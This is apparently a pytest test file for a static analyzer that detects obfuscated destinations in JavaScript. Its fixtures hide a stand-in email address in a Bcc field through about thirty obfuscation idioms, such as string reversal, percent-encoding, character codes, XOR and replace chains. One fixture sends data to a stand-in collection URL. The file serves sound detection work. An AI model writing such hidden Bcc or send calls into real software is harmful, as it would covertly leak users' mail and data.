"""The JavaScript string obfuscations vet folds statically (a string read backwards,
percent-encoding, character codes mapped or spread, ``.replace()`` chains), the same APIs used
innocently (no destination), and the bounds of the folding. Nothing here runs JavaScript: the
analyzer reads the tree."""

from __future__ import annotations

import time

import pytest

from mcpward.vet._code.javascript import (
    MAX_FOLDED,
    JavaScriptAnalyzer,
    _occurrences,
    _percent_decode,
    _replaced,
)

ADDRESS = "phan@giftshop.club"
CODES = ",".join(str(ord(c)) for c in ADDRESS)


def _destinations(code: str) -> list[tuple[str, str | None]]:
    facts = JavaScriptAnalyzer().analyze("index.js", code.encode())
    return [(d.value, d.sink) for d in facts.destinations]


def _bcc(expression: str, prelude: str = "") -> list[tuple[str, str | None]]:
    return _destinations(prelude + f"client.sendEmail({{ To: to, Bcc: {expression} }});\n")


@pytest.mark.parametrize(
    "expression,prelude",
    [
        (f'"{ADDRESS[::-1]}".split("").reverse().join("")', ""),
        (f'Array.from("{ADDRESS[::-1]}").reverse().join("")', ""),
        (f'[..."{ADDRESS[::-1]}"].toReversed().join("")', ""),
        ("R.split('').reverse().join('')", f'const R = "{ADDRESS[::-1]}";\n'),
        ("decodeURIComponent(" + '"' + "".join(f"%{ord(c):02x}" for c in ADDRESS) + '")', ""),
        ('decodeURI("%70han@giftshop.club")', ""),
        ('unescape("%u0070han%40giftshop.club")', ""),
        (f'[{CODES}].map(c => String.fromCharCode(c)).join("")', ""),
        (f'[{CODES}].map((c) => {{ return String.fromCharCode(c); }}).join("")', ""),
        (
            "CODES.map(function (n) { return String.fromCharCode(n); }).join('')",
            f"const CODES = [{CODES}];\n",
        ),
        ("String.fromCharCode(...CODES)", f"const CODES = [{CODES}];\n"),
        (f"String.fromCharCode.apply(null, [{CODES}])", ""),
        (f"String.fromCodePoint(...[{CODES}])", ""),
        (f'String.fromCharCode(..."{CODES}".split(",").map(Number))', ""),
        (f'"{CODES}".split(",").map((c) => String.fromCharCode(+c)).join("")', ""),
        (f"[{CODES}].map(c => String.fromCodePoint(c)).join('')", ""),
        (f"Buffer.from([{CODES}]).toString()", ""),
        ("Buffer.from(CODES).toString()", f"const CODES = [{CODES}];\n"),
        (f"String.fromCharCode(...[{CODES}])", ""),
        (
            '"' + " ".join(f"{ord(c):x}" for c in ADDRESS) + '".split(" ").map(h => parseInt(h, 16))'
            ".map(c => String.fromCharCode(c)).join('')",
            "",
        ),
        (
            "["
            + ",".join(str(ord(c) ^ 0x55) for c in ADDRESS)
            + "].map(c => String.fromCharCode(c ^ 0x55)).join('')",
            "",
        ),
        (
            "'" + "".join(chr(ord(c) + 1) for c in ADDRESS) + "'.split('')"
            ".map(c => String.fromCharCode(c.charCodeAt(0) - 1)).join('')",
            "",
        ),
        (f'String.fromCharCode({ord("p") + 0x10000}) + "han@giftshop.club"', ""),  # 16 bits
        ('"phan(at)giftshop(dot)club".replace("(at)", "@").replace("(dot)", ".")', ""),
        ('"phan AT giftshop DOT club".replace(/ at /i, "@").replace(/ dot /gi, ".")', ""),
        ('"phan@@giftshop.club".replace(/@+/, "@")', ""),
        ('"ph_a_n@gi_ftshop.club".replaceAll("_", "")', ""),
        ('"phan#giftshop.club".replace("#", "$$").replace("$", "@")', ""),
        ('"giftshop.club".replace(/^/, "phan@")', ""),
        ('"phan@".concat("giftshop.club".replace(/X/g, ""))', ""),
    ],
)
def test_each_idiom_folds_to_the_address(expression: str, prelude: str) -> None:
    assert (ADDRESS, "bcc field") in _bcc(expression, prelude)


@pytest.mark.parametrize(
    "expression",
    [
        '"club.giftshop@phan".split(/\\./).reverse().join(".")',  # a regular expression separator
        "[" + ",".join(hex(ord(c)) for c in ADDRESS) + "].map(String.fromCharCode).join('')",
        '"p.h.a.n@giftshop.club".replace(/\\.(?=[a-z]\\.)/g, "")',  # a group
        f'[{CODES}].map(c => String.fromCharCode(c + OFFSET)).join("")',  # another name
        f'String.fromCodePoint({0x110000 + ord("p")}) + "han@giftshop.club"',  # RangeError
    ],
)
def test_what_javascript_would_compute_otherwise_is_not_folded(expression: str) -> None:
    """``map(String.fromCharCode)`` hands (code, index, array) to it; groups and regular
    expression separators are outside the folded subset."""
    assert (ADDRESS, "bcc field") not in _bcc(expression)


INNOCENT = [
    # a reversed array of items, newest first
    "export const recent = (items) => items.slice().reverse().map((i) => i.title).join(', ');\n"
    'export const order = ["low", "medium", "high"].reverse().join(" > ");\n',
    # decodeURIComponent of a query parameter
    "export function handler(req) {\n"
    "  const q = decodeURIComponent(new URL(req.url).searchParams.get('q') || '');\n"
    "  return fetch(API + '?q=' + encodeURIComponent(q));\n}\n"
    'const API = "https://api.example-search.dev/v1";\n',
    # fromCharCode in a parser
    "export function readString(view, at, n) {\n"
    "  const codes = [];\n  for (let i = 0; i < n; i++) codes.push(view.getUint8(at + i));\n"
    "  return String.fromCharCode(...codes) + String.fromCharCode.apply(null, codes);\n}\n"
    "export const hex = (bytes) => Array.from(bytes).map((b) => String.fromCharCode(b)).join('');\n"
    "export const tab = String.fromCharCode(9);\n",
    # replace on run-time text, and on constants that name nothing
    "export const slug = (name) => name.toLowerCase().replace(/[^a-z0-9]+/g, '-');\n"
    "export const title = 'hello_world'.replace(/_/g, ' ');\n"
    "export const path = 'a/b/c'.split('/').reverse().join('/');\n",
]


@pytest.mark.parametrize("code", INNOCENT)
def test_the_same_apis_used_innocently_name_no_destination(code: str) -> None:
    found = [value for value, _ in _destinations(code)]
    assert all(value.startswith("https://api.example-search.dev/v1") for value in found), found


def test_a_url_given_to_a_runtime_replace_is_still_reported() -> None:
    code = 'export const link = (t) => send(t.replace("{u}", "https://collect.data-sink.net/u"));\n'
    assert [value for value, _ in _destinations(code)] == ["https://collect.data-sink.net/u"]


# -- bounds ------------------------------------------------------------------------------------


def test_replacements_cannot_grow_a_value_past_the_fold_limit() -> None:
    """2,001 replacements of 2,000 characters each (4 MB) and ``$\'`` expanding to the rest of
    the value at each match are built only up to the fold limit."""
    seed = "x" * 2000
    assert len(_replaced(seed, _occurrences(seed, "", True), seed)) == MAX_FOLDED
    assert len(_replaced(seed, _occurrences(seed, "x", True), "$'$'$`")) == MAX_FOLDED
    assert _replaced("a#b#c", _occurrences("a#b#c", "#", False), "[$&$$]") == "a[#$]b#c"


def test_patterns_that_could_backtrack_far_are_not_folded() -> None:
    for pattern in ("(a+)+b", "a*a*b", "a|b", "(?:ab)", "\\1", "a{2}{3}"):
        expression = f'"phan@giftshop.club".replace(/{pattern}/g, "")'
        assert (ADDRESS, "bcc field") not in _bcc(expression)


def test_spent_decoding_work_is_reported_as_incomplete() -> None:
    subject = "a" * 1000
    lines = "".join(f'const V{i} = "{subject}{i}".replace(/a*b/g, "");\n' for i in range(80))
    facts = JavaScriptAnalyzer().analyze("index.js", (lines + "use(V1, V79);\n").encode())
    assert any("decodings" in reason for _, reason in facts.incomplete)


def test_percent_decoding_reads_as_javascript_does() -> None:
    assert _percent_decode("phan%4@x.io", "decodeURIComponent") is None  # URIError
    assert _percent_decode("%FF", "decodeURIComponent") is None  # not UTF-8: URIError
    assert _percent_decode("%E2%82%AC%40", "decodeURIComponent") == "\u20ac@"
    assert _percent_decode("%E2%82%AC%40%2F%41", "decodeURI") == "\u20ac%40%2FA"
    assert _percent_decode("%4%u20AC%FF", "unescape") == "%4\u20ac\xff"


def test_mapping_work_is_bounded() -> None:
    """40 maps of 16,000 characters each: past the file's decoding work the rest is not folded
    and the file is reported incomplete, within a second or two."""
    subject = "a" * 16000
    lines = "".join(
        f'const H{i} = "{subject}{i}".split("").map(c => String.fromCharCode(c.charCodeAt(0) ^ 7)).join("");\n'
        for i in range(40)
    )
    started = time.process_time()  # CPU time: the bound is on the work, not on the machine's load
    facts = JavaScriptAnalyzer().analyze("index.js", lines.encode())
    assert time.process_time() - started < 5
    assert any("decodings" in reason for _, reason in facts.incomplete)


def test_a_long_mapper_is_not_read() -> None:
    padding = " + 0" * 80
    expression = f'[{CODES}].map(c => String.fromCharCode(c{padding})).join("")'
    assert (ADDRESS, "bcc field") not in _bcc(expression)
    assert (ADDRESS, "bcc field") in _bcc(expression.replace(padding, " + 0"))
